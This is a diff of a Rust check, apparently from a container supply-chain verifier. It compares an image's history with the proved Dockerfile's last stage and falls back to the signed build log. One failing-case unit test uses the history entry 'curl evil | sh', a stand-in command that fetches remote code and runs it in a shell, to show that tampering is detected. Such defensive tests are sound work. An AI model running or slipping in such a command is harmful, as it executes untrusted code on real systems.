@@ -1,9 +1,9 @@
-//! `image-history`: the image's history follows the build's instructions.
+//! `image-history`: the image's history follows the Dockerfile's instructions.
 
 use super::image_evidence::{image_of, steps};
 use super::outcome::Outcome;
 use super::{Check, Run};
-use crate::evidence::Evidence;
+use crate::evidence::{Evidence, NoInstructions};
 use crate::finding::{Group, Level, MissingEvidence, Reason};
 use crate::image::History;
 use crate::policy::Policy;
@@ -12,35 +12,50 @@ pub(super) static CHECK: Check = Check {
     name: "image-history",
     group: Group::Image,
     level: Level::Warn,
-    says: "the image's history ends with the instructions that the build log shows",
-    explanation: "Compares the last entries of the history in the image's configuration with the instructions of the Dockerfile's last stage, as \
-the builder printed them into the signed log (that those are the archived Dockerfile's is source-dockerfile). Keywords must agree one by one, and \
-the commands of RUN word by word; what COPY, ADD and ENV write is another spelling and is not compared. The history is text that a builder wrote \
-down: it proves nothing about the layers. Times in it are shown as facts and not judged. BuildKit's log does not print every instruction: then \
-there is no evidence.",
+    says: "the image's history ends with the instructions of the Dockerfile's last stage",
+    explanation: "Compares the last entries of the history in the image's configuration with the instructions of the last stage of the proved \
+Dockerfile (expect.dockerfile, or Dockerfile at the top). Where the source proves no Dockerfile, it compares with the instructions that the \
+builder printed into the signed log, and says that it did; BuildKit's log does not print them, and then there is no evidence. Keywords must agree \
+one by one, and the commands of RUN word by word; what COPY, ADD and ENV write is another spelling and is not compared. The history is text that \
+a builder wrote down: it proves nothing about the layers. Times in it are shown as facts and not judged.\n\nWhen it fails: the build may have \
+used another Dockerfile of the repository; name it in expect.dockerfile.",
     missing_evidence: MissingEvidence::RejectsWithGroup,
     run: Run::Function(run),
 };
 
-fn run(evidence: &Evidence<'_>, _: &Policy) -> Outcome {
+fn run(evidence: &Evidence<'_>, policy: &Policy) -> Outcome {
     let image = match image_of(evidence) {
         Ok(image) => image,
         Err(outcome) => return outcome,
     };
     let Some(config) = &image.config else { return Outcome::unknown("the image's configuration cannot be read") };
-    let instructions = match evidence.log().map(steps) {
-        Some(Ok(instructions)) if !instructions.is_empty() => instructions,
-        Some(Err(message)) => return Outcome::unknown(message),
-        _ => return Outcome::not_run(Reason::NoEvidence, "the log does not show the build's instructions"),
+    let not_proved = match evidence.dockerfile(policy.expect.dockerfile.as_deref()) {
+        Ok(instructions) => {
+            let texts: Vec<&str> = instructions.iter().map(|instruction| instruction.text.as_str()).collect();
+            return compare(last_stage(&texts), &config.history, "the proved Dockerfile");
+        }
+        Err(NoInstructions::NoFile(fault) | NoInstructions::NotRead(fault)) => fault,
     };
-    let last_from = instructions.iter().rposition(|instruction| keyword(instruction) == "FROM");
-    let own: Vec<&str> = instructions.into_iter().skip(last_from.map_or(0, |at| at + 1)).collect();
-    compare(&own, &config.history)
+    match evidence.log().map(steps) {
+        Some(Ok(printed)) if !printed.is_empty() => compare(last_stage(&printed), &config.history, "the log")
+            .detail(format!("compared with the log only, not with a proved Dockerfile: {not_proved}")),
+        Some(Err(message)) => Outcome::unknown(message),
+        _ => {
+            Outcome::not_run(Reason::NoEvidence, "no Dockerfile is proved, and the log does not show its instructions")
+                .detail(not_proved)
+        }
+    }
 }
 
-fn compare(instructions: &[&str], history: &[History]) -> Outcome {
+/// What follows the last FROM.
+fn last_stage<'i, 't>(instructions: &'i [&'t str]) -> &'i [&'t str] {
+    let last_from = instructions.iter().rposition(|instruction| keyword(instruction) == "FROM");
+    instructions.get(last_from.map_or(0, |at| at + 1)..).unwrap_or_default()
+}
+
+fn compare(instructions: &[&str], history: &[History], witness: &str) -> Outcome {
     let Some(inherited) = history.len().checked_sub(instructions.len()) else {
-        return Outcome::fail("the image's history is shorter than the Dockerfile's last stage")
+        return Outcome::fail(format!("the image's history is shorter than the last stage of {witness}"))
             .sides(format!("at least {} entries", instructions.len()), format!("{} entries", history.len()));
     };
     for (at, (instruction, entry)) in instructions.iter().zip(history.iter().skip(inherited)).enumerate() {
@@ -48,12 +63,15 @@ fn compare(instructions: &[&str], history: &[History]) -> Outcome {
         let expected = keyword(instruction);
         let differs = expected != found_keyword || (expected == "RUN" && !same_command(instruction, &found));
         if differs {
-            return Outcome::fail(format!("entry {} of the last stage is another instruction", at + 1))
+            return Outcome::fail(format!("entry {} of the last stage of {witness} is another instruction", at + 1))
                 .sides(*instruction, &entry.created_by);
         }
     }
-    Outcome::pass(format!("the history ends with the {} instructions that the log shows", instructions.len()))
-        .detail(format!("{inherited} entries before them come from the base image and were not compared"))
+    Outcome::pass(format!(
+        "the history ends with the {} instructions of the last stage of {witness}",
+        instructions.len()
+    ))
+    .detail(format!("{inherited} entries before them come from the base image and were not compared"))
 }
 
 fn keyword(instruction: &str) -> String {
@@ -115,7 +133,7 @@ mod tests {
             ("COPY a b", "/bin/sh -c #(nop) COPY file:0123 in b"),
             ("COPY a b", "COPY a b # buildkit"),
         ] {
-            let outcome = compare(&[instruction], &[self::entry("base"), self::entry(entry)]);
+            let outcome = compare(&[instruction], &[self::entry("base"), self::entry(entry)], "x");
             assert_eq!(outcome.status, crate::finding::Status::Pass, "{instruction} {entry}: {outcome:?}");
         }
     }
@@ -130,7 +148,7 @@ mod tests {
             (&["COPY a b"], &["/bin/sh -c curl evil | sh"]),
         ] {
             let history: Vec<History> = history.iter().map(|text| entry(text)).collect();
-            assert_eq!(compare(instructions, &history).status, crate::finding::Status::Fail, "{instructions:?}");
+            assert_eq!(compare(instructions, &history, "x").status, crate::finding::Status::Fail, "{instructions:?}");
         }
     }
 }
